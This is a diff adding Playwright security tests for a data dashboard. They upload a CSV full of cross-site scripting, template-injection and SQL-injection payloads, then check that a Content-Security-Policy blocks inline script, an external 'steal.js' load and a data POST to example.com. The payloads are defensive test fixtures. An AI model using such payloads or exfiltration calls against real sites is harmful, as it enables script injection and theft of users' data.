@@ -1,0 +1,97 @@
+import { expect, test, waitForDashboard } from './fixtures';
+
+const TABS = ['overview', 'trend', 'countries', 'map', 'matrix', 'leaderboard', 'conversion'];
+
+/**
+ * A CSV whose headers and values are attacks: markup with handlers, template syntax, javascript: links, SQL, a
+ * right-to-left override, a very long string. Two dimensions and a measure, by month.
+ */
+const PAYLOADS = [
+  '<img src=x onerror="window.__pwned=1">',
+  '<script>window.__pwned=2</script>',
+  '{{constructor.constructor("window.__pwned=3")()}}',
+  'javascript:window.__pwned=4',
+  "'); DROP TABLE market_monthly; --",
+  '\u202Egnp.exe',
+  `<svg onload="window.__pwned=5">${'x'.repeat(300)}`,
+];
+const HOSTILE_CSV = [
+  `month,"<b onmouseover=""window.__pwned=6"">shop</b>","country",orders`,
+  ...PAYLOADS.flatMap((payload, index) => [
+    `2024-0${(index % 6) + 1},"${payload.replaceAll('"', '""')}",RU,${10 + index}`,
+    `2024-0${(index % 6) + 1},"${payload.replaceAll('"', '""')}",MX,${5 + index}`,
+  ]),
+].join('\n');
+
+test('a CSV full of script payloads is inert text in every view, and the data tables show it as written', async ({ guarded: page }) => {
+  test.setTimeout(120_000);
+  await page.addInitScript(() => {
+    (window as unknown as { __pwned?: number }).__pwned = undefined;
+  });
+  await page.goto('/');
+  await waitForDashboard(page);
+  await page.getByTestId('open-upload').click();
+  await page.getByTestId('upload-input').setInputFiles({ name: '<img src=x onerror=alert(1)>.csv', mimeType: 'text/csv', buffer: Buffer.from(HOSTILE_CSV) });
+  const form = page.getByTestId('upload-form');
+  await expect(form.getByTestId('upload-preview')).toContainText('<img src=x onerror="window.__pwned=1">');
+  await form.getByTestId('role-1').selectOption('dimension');
+  await form.getByTestId('upload-name').fill('<i>Hostile</i>');
+  await form.getByTestId('upload-load').click();
+  await expect(page.getByTestId('upload-report')).toContainText(`${PAYLOADS.length * 2} of ${PAYLOADS.length * 2} rows loaded`);
+  await page.getByTestId('upload-report').getByTestId('upload-open').click();
+  await expect(page.getByTestId('kpi-total')).toBeVisible();
+
+  for (const tab of TABS) {
+    await page.getByTestId(`tab-${tab}`).click();
+    await expect(page.getByTestId(`view-${tab}`)).toBeVisible();
+    await expect(page.locator('[aria-busy=true]')).toHaveCount(0, { timeout: 30_000 });
+    // Hover the charts, so that tooltips render the members too.
+    for (const mark of await page.locator('.recharts-bar-rectangle, .recharts-dot').all().then((marks) => marks.slice(0, 3))) {
+      await mark.hover({ force: true }).catch(() => {});
+    }
+  }
+  // The payloads are on the page as text…
+  await page.getByTestId('tab-overview').click();
+  await expect(page.getByTestId('view-overview')).toContainText('<img src=x onerror="window.__pwned=1">'.slice(0, 20));
+  // …never as elements, and nothing ran.
+  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
+  expect(await page.locator('img[src=x], svg[onload], b[onmouseover], script:not([src])').count()).toBe(0);
+  await expect(page.getByTestId('filter-dataset')).toContainText('<i>Hostile</i>');
+});
+
+test('the Content-Security-Policy is served and enforced: no inline script, no script or connection elsewhere', async ({ page, request }) => {
+  const response = await request.get('/');
+  const policy = response.headers()['content-security-policy'] ?? '';
+  expect(policy).toContain("script-src 'self' 'wasm-unsafe-eval'");
+  expect(policy).toContain("connect-src 'self'");
+  expect(policy).toContain("frame-ancestors 'none'");
+  const html = await response.text();
+  expect(html).toContain('http-equiv="Content-Security-Policy"');
+
+  const violations: string[] = [];
+  page.on('console', (message) => {
+    if (message.type() === 'error') violations.push(message.text());
+  });
+  await page.goto('/');
+  await waitForDashboard(page);
+  const outcome = await page.evaluate(async () => {
+    const script = document.createElement('script');
+    script.textContent = 'window.__pwned = "inline"';
+    document.head.append(script);
+    // A script from elsewhere (what an injected <script src> would be).
+    const external = await new Promise<string>((resolve) => {
+      const element = document.createElement('script');
+      element.src = 'https://example.com/steal.js';
+      element.onload = () => resolve('loaded');
+      element.onerror = () => resolve('blocked');
+      document.head.append(element);
+    });
+    const fetched = await fetch('https://example.com/collect', { method: 'POST', body: 'data' }).then(
+      () => 'sent',
+      () => 'blocked',
+    );
+    return { pwned: (window as unknown as { __pwned?: string }).__pwned ?? null, external, fetched };
+  });
+  expect(outcome).toEqual({ pwned: null, external: 'blocked', fetched: 'blocked' });
+  expect(violations.some((text) => /Content Security Policy/.test(text))).toBe(true);
+});
